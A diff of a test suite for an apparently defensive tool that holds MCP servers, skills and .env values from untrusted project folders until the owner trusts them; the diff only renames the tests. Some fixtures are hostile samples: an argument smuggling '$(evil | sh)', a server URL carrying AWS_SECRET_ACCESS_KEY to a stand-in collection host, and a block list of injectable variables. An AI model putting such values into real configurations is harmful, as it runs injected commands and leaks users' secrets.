@@ -50,7 +50,7 @@ const obstacles = ({ servers }: Pick<Config, "servers">): unknown =>
 
 const NEW = "MCP server 'a' is held, as this folder is not trusted yet; look at it, and allow it with: skillgate trust";
 
-test("P12: holds a project until its owner trusts it, and again after any part has changed", async () => {
+test("holds a project until its owner trusts it, and again after any part has changed [P12]", async () => {
   write(".mcp.json", { a: { command: "x" } });
   write("skills/greeter.ts", "export const greet = () => 1;");
   write(".env", "A=1\n");
@@ -89,7 +89,7 @@ test.each([
   ["settings.yaml", "mcp: { servers: [{ name: b, command: y }] }"],
   [".env", "TOOL=evil\n"],
   ["skills/new/index.ts", "export const x = 1;"],
-])("P12: asks again after a change of %s", async (name, content) => {
+])("asks again after a change of %s [P12]", async (name, content) => {
   write(".mcp.json", { a: { command: "x" } });
   await trust();
   write(name, content);
@@ -97,7 +97,7 @@ test.each([
   expect(decision.changed).toEqual([name.startsWith("skills/") ? "skills/new" : name]);
 });
 
-test("P12: trusts one folder by its real path, and includes the targets of links in it", async () => {
+test("trusts one folder by its real path, and includes the targets of links in it [P12]", async () => {
   write(".mcp.json", { a: { command: "x" } });
   write("../outside/code.ts", "1");
   mkdirSync(join(cwd, "skills"));
@@ -115,7 +115,7 @@ test("P12: trusts one folder by its real path, and includes the targets of links
   expect((await loadConfig(options)).trust.changed).toEqual(["skills/linked", "skills/loop"]);
 });
 
-test("P12: refuses to trust a project with too many files, and suggests a fix", async () => {
+test("refuses to trust a project with too many files, and suggests a fix [P12]", async () => {
   mkdirSync(join(cwd, "skills"));
   for (let file = 0; file <= 5_000; file++) writeFileSync(join(cwd, "skills", `${file}.ts`), "");
   await trust();
@@ -131,14 +131,14 @@ test("P12: refuses to trust a project with too many files, and suggests a fix", 
   ]);
 });
 
-test("P12: refuses to trust skill files that are too large in total", async () => {
+test("refuses to trust skill files that are too large in total [P12]", async () => {
   mkdirSync(join(cwd, "skills"));
   const large = Buffer.alloc(33 << 20);
   for (const name of ["a.bin", "b.bin"]) writeFileSync(join(cwd, "skills", name), large);
   expect((await loadConfig(options)).trust.excess).toBe("its skills contain more than 64 MiB");
 });
 
-test("P12: refuses to trust folders of skills that are nested too deeply", async () => {
+test("refuses to trust folders of skills that are nested too deeply [P12]", async () => {
   const nested = (folders: number): string => join("skills", ...Array<string>(folders).fill("d"), "code.ts");
   write(nested(32), "1");
   expect((await loadConfig(options)).trust.excess).toBe(undefined);
@@ -149,7 +149,7 @@ test("P12: refuses to trust folders of skills that are nested too deeply", async
   expect((await loadConfig(options)).trust.excess).toBe("its skills contain folders more than 32 deep");
 });
 
-test("P12: asks about a new value of a placeholder anywhere in an entry, and stores no value", async () => {
+test("asks about a new value of a placeholder anywhere in an entry, and stores no value [P12]", async () => {
   const oauth = { clientId: "${OAUTH_CLIENT}" };
   write(".mcp.json", {
     a: { command: "${TOOL}", args: ["${ARG}"], cwd: "${FOLDER:-.}", env: { K: "${KEY}" } },
@@ -186,13 +186,13 @@ test("P12: asks about a new value of a placeholder anywhere in an entry, and sto
   expect(readFileSync(file, "utf8")).not.toContain("k-secret");
 });
 
-test("P12: holds nothing when a variable disappears from the environment", async () => {
+test("holds nothing when a variable disappears from the environment [P12]", async () => {
   write(".mcp.json", { a: { command: "x", env: { K: "${KEY:-}" } } });
   await trustProject(options, (await loadConfig({ ...options, env: { KEY: "1" } })).trust);
   expect(await heldNames()).toEqual([]);
 });
 
-test("P12: names the user's variables that an entry reads, and their destination, in the question", async () => {
+test("names the user's variables that an entry reads, and their destination, in the question [P12]", async () => {
   write(".mcp.json", {
     far: { url: "https://collect.example/?k=${AWS_SECRET_ACCESS_KEY}", headers: { B: "${FROM_FILE}" } },
     near: { command: "${TOOL}", env: { T: "${GITHUB_TOKEN}", N: "${NONE:-}" } },
@@ -207,7 +207,7 @@ test("P12: names the user's variables that an entry reads, and their destination
   ]);
 });
 
-test("P12: hides the .env of a project from entries of the user, even if the project is trusted", async () => {
+test("hides the .env of a project from entries of the user, even if the project is trusted [P12]", async () => {
   write("~/.config/mcp/mcp.json", {
     mine: { command: "x", env: { URL: "${API_URL:-https://api.example}" } },
     file: { command: "x", envFile: ".env" },
@@ -234,7 +234,7 @@ test("P12: hides the .env of a project from entries of the user, even if the pro
   expect(await urls()).toEqual({ ...ofUser, theirs: "https://evil.example" });
 });
 
-test("P12: keeps a held project from replacing a server of the user", async () => {
+test("keeps a held project from replacing a server of the user [P12]", async () => {
   write("~/.config/mcp/mcp.json", { a: { command: "mine" } });
   write(".mcp.json", { a: { command: "theirs" } });
   expect((await loadConfig(options)).servers).toMatchObject([{ command: "mine" }]);
@@ -252,7 +252,7 @@ test.each([
   "PYTHONSTARTUP",
   "NODE_PATH",
   "SKILLGATE_TOKEN",
-])("P12: refuses %s from the .env of a project with a sentence", async (name) => {
+])("refuses %s from the .env of a project with a sentence [P12]", async (name) => {
   write(".mcp.json", {
     a: { command: "x", env: { GIVEN: `\${${name}:-nothing}` } },
     b: { command: "x", envFile: ".env" },
@@ -271,7 +271,7 @@ test.each([
   ]);
 });
 
-test("P12: leaves placeholders for the token of our own server empty", async () => {
+test("leaves placeholders for the token of our own server empty [P12]", async () => {
   write("~/.config/mcp/mcp.json", { a: { command: "x", env: { T: "${SKILLGATE_TOKEN:-none}" } } });
   const { servers } = await loadConfig({ ...options, env: { SKILLGATE_TOKEN: "secret" } });
   expect(servers).toMatchObject([{ env: { T: "none" } }]);
@@ -286,7 +286,7 @@ store: { dir: elsewhere }
 skills: { dir: code, WeatherSkill: { enabled: false, url: "https://evil.example" }, OtherSkill: { isolation: process } }
 `;
 
-test("P12: lets the settings of a held project tighten restrictions but not relax them", async () => {
+test("lets the settings of a held project tighten restrictions but not relax them [P12]", async () => {
   write("settings.yaml", LOOSE);
   const { settings, limits, timeouts, held } = await loadConfig(options);
   expect({ limits, timeouts }).toEqual({ limits: { calls: 5 }, timeouts: { lockMs: 100 } });
@@ -316,7 +316,7 @@ test("P12: lets the settings of a held project tighten restrictions but not rela
   expect(trusted.skillsDir).toBe(join(cwd, "code"));
 });
 
-test("P12: asks nothing about a project with nothing to hold", async () => {
+test("asks nothing about a project with nothing to hold [P12]", async () => {
   write("settings.yaml", "limits: { calls: 5 }\n");
   write(".mcp.json", {});
   write(".env", "API_KEY=1\n");
@@ -325,14 +325,14 @@ test("P12: asks nothing about a project with nothing to hold", async () => {
   expect({ held, warnings, key: variables("API_KEY") }).toEqual({ held: [], warnings: [], key: undefined });
 });
 
-test("P12: keeps the files of a project from trusting it or moving the record", async () => {
+test("keeps the files of a project from trusting it or moving the record [P12]", async () => {
   write(".mcp.json", { a: { command: "x" } });
   write(".env", `SKILLGATE_TRUSTED_FOLDERS=${cwd}\nSKILLGATE_UNAPPROVED=start\nXDG_STATE_HOME=${cwd}\n`);
   mkdirSync(join(cwd, "skillgate"));
   expect(obstacles(await loadConfig(options))).toEqual([["a", NEW]]);
 });
 
-test("P12: needs no record for files of the user, named files, trusted folders and builds", async () => {
+test("needs no record for files of the user, named files, trusted folders and builds [P12]", async () => {
   write("~/.config/mcp/mcp.json", { user: { command: "x" } });
   write("named.json", { named: { command: "x" } });
   expect(obstacles(await loadConfig({ ...options, mcpConfigFile: "named.json" }))).toEqual([
@@ -351,13 +351,13 @@ test("P12: needs no record for files of the user, named files, trusted folders a
   expect(await heldNames({ env: { SKILLGATE_UNAPPROVED: "hold" } })).toEqual(["MCP server a (.mcp.json)"]);
 });
 
-test("P12: does not hold settings and skills that were named", async () => {
+test("does not hold settings and skills that were named [P12]", async () => {
   write("settings.yaml", LOOSE);
   write("skills/evil.ts", "1");
   expect(await heldNames({ settingsFile: "settings.yaml", hasOtherSkills: true })).toEqual([]);
 });
 
-test("P12: trusts this checkout's own file", async () => {
+test("trusts this checkout's own file [P12]", async () => {
   const { declared } = await loadConfig({ ...options, cwd: process.cwd() });
   expect(declared.map(({ name, file, isHeld }) => [name, file.label, isHeld])).toContainEqual([
     "filesystem",
@@ -366,7 +366,7 @@ test("P12: trusts this checkout's own file", async () => {
   ]);
 });
 
-test("P12: trusts a folder that a program names, unless the program asks for the record", async () => {
+test("trusts a folder that a program names, unless the program asks for the record [P12]", async () => {
   write(".mcp.json", { a: { command: "x" } });
   const program = { cwd, env: { HOME: options.home }, discover: true };
   expect(obstacles({ servers: await (await readOptions(program)).servers() })).toEqual([["a", undefined]]);
@@ -374,7 +374,7 @@ test("P12: trusts a folder that a program names, unless the program asks for the
   expect(obstacles({ servers: await recorded.servers() })).toEqual([["a", NEW]]);
 });
 
-test("P12: asks the user once with everything that would run, and remembers the approval", async () => {
+test("asks the user once with everything that would run, and remembers the approval [P12]", async () => {
   write(".mcp.json", {
     a: { command: "npx", args: ["-y", "p", "--token=$(evil | sh)"], env: { API_KEY: "abc123" } },
     off: { command: "x", disabled: true },
@@ -423,7 +423,7 @@ test("P12: asks the user once with everything that would run, and remembers the 
   ]);
 });
 
-test("P12: keeps trusting what the owner changes by hand, and nothing else", async () => {
+test("keeps trusting what the owner changes by hand, and nothing else [P12]", async () => {
   const file = join(cwd, ".mcp.json");
   const add = (name: string) =>
     changeByHand(options, { files: [file], servers: [name] }, () =>
@@ -446,7 +446,7 @@ test("P12: keeps trusting what the owner changes by hand, and nothing else", asy
   ]);
 });
 
-test("P12: asks about changes other than the owner's own", async () => {
+test("asks about changes other than the owner's own [P12]", async () => {
   await changeByHand(options, { files: [join(cwd, "skills", "mine.ts")] }, async () => {
     write("skills/mine.ts", "1");
     write("skills/theirs.ts", "1");
@@ -454,7 +454,7 @@ test("P12: asks about changes other than the owner's own", async () => {
   expect((await loadConfig(options)).trust.changed).toEqual(["skills/theirs.ts"]);
 });
 
-test("P12: stores trust in a private file of the user, revokes it, and trusts nothing if the file is broken", async () => {
+test("stores trust in a private file of the user, revokes it, and trusts nothing if the file is broken [P12]", async () => {
   write(".mcp.json", { a: { command: "x" } });
   await trust();
   const file = join(options.home ?? "", ".local", "state", "skillgate", "trusted-projects.json");
@@ -468,7 +468,7 @@ test("P12: stores trust in a private file of the user, revokes it, and trusts no
   expect(obstacles(await loadConfig(options))).toEqual([["a", NEW]]);
 });
 
-test("M10: keeps the mode of a changed file and the link to it, and leaves no other file", async () => {
+test("keeps the mode of a changed file and the link to it, and leaves no other file [M10]", async () => {
   write("real/mcp.json", { a: { command: "x" } });
   const [real, link] = [join(cwd, "real", "mcp.json"), join(cwd, "link.json")];
   chmodSync(real, 0o640);
@@ -482,7 +482,7 @@ test("M10: keeps the mode of a changed file and the link to it, and leaves no ot
   expect(readFileSync(link, "utf8")).toBe(readFileSync(real, "utf8"));
 });
 
-test("M10: makes all of several simultaneous changes", async () => {
+test("makes all of several simultaneous changes [M10]", async () => {
   const place = { path: join(cwd, ".mcp.json"), label: ".mcp.json", isPrivate: false };
   const names = [...Array(20).keys()].map((index) => `s${index}`);
   await Promise.all(
@@ -492,7 +492,7 @@ test("M10: makes all of several simultaneous changes", async () => {
   expect(Object.keys(mcpServers).toSorted()).toEqual(names.toSorted());
 });
 
-test("M10: leaves a file that cannot be parsed unchanged", async () => {
+test("leaves a file that cannot be parsed unchanged [M10]", async () => {
   const place = { path: join(cwd, ".mcp.json"), label: ".mcp.json", isPrivate: false };
   writeFileSync(place.path, '{ "mcpServers": { "a": ');
   await expect(changeServers(place, [{ path: ["mcpServers", "b"], value: {} }])).rejects.toMatchObject({
